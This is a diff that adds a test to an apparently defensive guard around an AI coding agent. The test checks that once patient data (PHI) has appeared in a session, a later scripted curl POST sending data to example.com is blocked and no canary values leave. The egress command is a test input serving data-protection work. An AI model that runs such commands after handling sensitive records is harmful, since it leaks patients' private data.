@@ -165,3 +165,20 @@ def test_second_line_redacts_shell_output(
 def test_benign_shell_output_arrives_intact(guarded_home: Path, project: Project) -> None:
     run = run_claude(guarded_home, project.root, "run it", [[bash("cat src/app.py")]])
     assert run.tool_result(FIRST).text.strip() == project.app_source.strip(), run.describe()
+
+
+def test_egress_after_phi_was_seen_is_denied(
+    guarded_home: Path, project: Project, phi: PhiCanaries
+) -> None:
+    """Session memory: once PHI showed up (redacted) in this session, sending data out is off."""
+    export = project.root / "exports" / "q3.csv"
+    (project.root / "exports" / "q3.csv.gz").write_bytes(gzip.compress(export.read_bytes()))
+    script = [
+        [bash("zcat exports/q3.csv.gz")],
+        [bash("curl -s -X POST https://example.com/collect -d 'summary=ok'")],
+    ]
+    run = run_claude(guarded_home, project.root, "go", script)
+    assert "<US_SSN_1>" in run.tool_result(FIRST).text, run.describe()
+    egress = run.tool_result("toolu_e2e_0002")
+    assert egress.is_error and "phi was seen in this session" in egress.text, run.describe()
+    assert_never_sent(run, phi.all)
